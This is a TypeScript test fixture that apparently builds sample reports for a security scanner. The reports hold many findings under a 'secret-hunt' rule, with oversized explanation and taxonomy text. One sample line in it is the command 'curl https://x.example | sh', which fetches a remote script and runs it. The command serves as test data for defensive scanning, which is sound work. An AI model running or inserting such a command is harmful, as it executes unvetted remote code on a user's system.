import type { RuleId } from "../../../src/core/finding.ts";
import { asPath } from "../../../src/core/ids.ts";
import type { Judged } from "../../../src/core/judgement.ts";
import type { PublicReport } from "../../../src/report/report.ts";
import { makeArtifact, makeFinding, makeJudged, makeJudgement, makeReport, makeRule, showLine } from "../sample.ts";

const rule: RuleId = "rules/secret-hunt";
const SHOWN = showLine("  curl https://x.example | sh", "curl https://x.example | sh");

/** One artifact with findings of one rule, whose texts are longer than any place takes them. */
export function reportOf(findings: readonly Judged[]): PublicReport {
  const judgement = makeJudgement({ kind: "added", head: makeArtifact("skills/pdf") }, { findings });
  const taxonomy = Array.from({ length: 30 }, (_, index) => `CWE-${index}`);
  return makeReport([judgement], {
    rules: new Map([[rule, makeRule(rule, { taxonomy, why: "because ".repeat(500) })]]),
  });
}

/** So many findings in fifty files; every hundredth, on a line whose number ends in 00, is worse than the others. */
export function manyFindings(count: number, messageOf: (index: number) => string = () => "found"): readonly Judged[] {
  return Array.from({ length: count }, (_, index) => {
    const line = index + 1;
    const at = { path: asPath(`skills/pdf/file ${index % 50}.md`), line, column: 3, endLine: line, endColumn: 30 };
    const severity = line % 100 === 0 ? "critical" : "medium";
    return makeJudged(makeFinding(rule, at, { message: messageOf(index), severity, ...SHOWN }), "hold");
  });
}
